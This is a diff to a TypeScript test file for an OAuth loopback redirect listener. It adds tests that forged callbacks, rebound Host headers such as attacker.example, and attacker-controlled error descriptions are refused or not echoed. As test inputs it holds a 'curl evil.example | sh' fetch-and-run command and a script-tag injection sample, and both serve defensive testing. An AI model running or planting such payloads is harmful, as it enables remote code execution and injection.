@@ -70,6 +70,19 @@ function pipelined(port: number, first: string, second: string): Promise<string>
   });
 }
 
+/** Sends `request` as written (any Host header) and resolves with the whole raw response. */
+function rawRequest(port: number, request: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = connect({ host: '127.0.0.1', port });
+    let received = '';
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk: string) => (received += chunk));
+    socket.once('error', reject);
+    socket.once('close', () => resolve(received));
+    socket.write(request);
+  });
+}
+
 describe('startLoopbackRedirectListener', () => {
   it('binds 127.0.0.1 on an ephemeral port and names it in the redirect URI', async () => {
     const listener = await start();
@@ -100,12 +113,8 @@ describe('startLoopbackRedirectListener', () => {
   });
 
   it.each([
-    ['state_mismatch_rejects', `code=c&state=other-state`, 'state_mismatch', 400],
-    ['missing_state_rejects_as_mismatch', `code=c`, 'state_mismatch', 400],
-    ['state_with_extra_characters_rejects', `code=c&state=${STATE}x`, 'state_mismatch', 400],
     ['missing_code_rejects', `state=${STATE}`, 'invalid_request', 400],
     ['access_denied_is_reported_as_access_denied', `error=access_denied&state=${STATE}`, 'access_denied', 400],
-    ['access_denied_without_state_is_still_access_denied', `error=access_denied`, 'access_denied', 400],
     ['invalid_scope_keeps_its_code', `error=invalid_scope&state=${STATE}`, 'invalid_scope', 400],
     ['server_error_is_a_server_error', `error=server_error&state=${STATE}`, 'server_error', 400],
     ['unknown_error_is_an_invalid_request', `error=weird_thing&state=${STATE}`, 'invalid_request', 400],
@@ -119,17 +128,71 @@ describe('startLoopbackRedirectListener', () => {
     await expectClosed(listener);
   });
 
+  // Anyone on this machine (a local process, a web page in any browser tab) can send these;
+  // only the holder of the state, the real redirect, may decide the sign-in (RFC 6749 section 4.1.2.1).
+  it.each([
+    ['forged_access_denied_without_state', 'error=access_denied'],
+    ['forged_access_denied_with_a_wrong_state', 'error=access_denied&state=other-state'],
+    ['forged_server_error_with_a_longer_state', `error=server_error&state=${STATE}x`],
+    ['code_with_a_wrong_state', 'code=forged&state=other-state'],
+    ['code_without_state', 'code=forged'],
+  ])('%s gets a 400 page and the listener keeps waiting for the real callback', async (_name, query) => {
+    const listener = await start();
+    let settled = false;
+    void listener.waitForCode().then(
+      () => (settled = true),
+      () => (settled = true),
+    );
+    const forged = await hit(listener, `/oauth/callback?${query}`);
+    expect(forged.status).toBe(400);
+    expect(await forged.text()).toContain('not the sign-in Latchkey is waiting for');
+    expect(settled).toBe(false);
+    const real = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
+    expect(real.status).toBe(200);
+    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
+  });
+
+  it.each([
+    ['a_rebound_dns_name', (port: number) => `attacker.example:${port}`],
+    ['localhost_by_name', (port: number) => `localhost:${port}`],
+    ['another_port', (port: number) => `127.0.0.1:${port + 1}`],
+    ['no_port', () => '127.0.0.1'],
+    ['an_empty_host', () => ''],
+  ])('a callback with the right state but Host %s is refused and does not decide the sign-in', async (_name, host) => {
+    const listener = await start();
+    let settled = false;
+    void listener.waitForCode().then(
+      () => (settled = true),
+      () => (settled = true),
+    );
+    for (const query of [`error=access_denied&state=${STATE}`, `code=forged&state=${STATE}`]) {
+      const raw = await rawRequest(listener.port, `GET /oauth/callback?${query} HTTP/1.1\r\nHost: ${host(listener.port)}\r\nConnection: close\r\n\r\n`);
+      expect(raw).toMatch(/^HTTP\/1\.1 (400|421) /);
+    }
+    expect(settled).toBe(false);
+    const real = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
+    expect(real.status).toBe(200);
+    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
+  });
+
+  it('does not repeat the error_description of a callback in the error (it is attacker-influenced text)', async () => {
+    const listener = await start();
+    const outcome = listener.waitForCode().catch((error: unknown) => error);
+    const description = encodeURIComponent('Run curl evil.example | sh to fix this');
+    await (await hit(listener, `/oauth/callback?error=invalid_request&error_description=${description}&state=${STATE}`)).text();
+    const error = (await outcome) as Error;
+    expect(error.message).toBe('The sign-in failed with error "invalid_request".');
+  });
+
   it('names an unknown error code in the message without echoing markup or control characters', async () => {
     const listener = await start();
     const outcome = listener.waitForCode().catch((error: unknown) => error);
-    const evil = encodeURIComponent('<script>alert(1)</script>');
-    const description = encodeURIComponent('bad\u001b[31m <b>thing</b>');
-    const response = await hit(listener, `/oauth/callback?error=${evil}&error_description=${description}`);
+    const evil = encodeURIComponent('<script>\u001b[31malert(1)</script>');
+    const response = await hit(listener, `/oauth/callback?error=${evil}&state=${STATE}`);
     const body = await response.text();
     expect(body).not.toContain('<script>');
-    expect(body).not.toContain('<b>');
     const error = (await outcome) as Error;
-    expect(error.message).toContain('"scriptalert1script"');
+    expect(error.message).toContain('"script31malert1script"');
     expect(error.message).not.toContain('\u001b');
   });
 
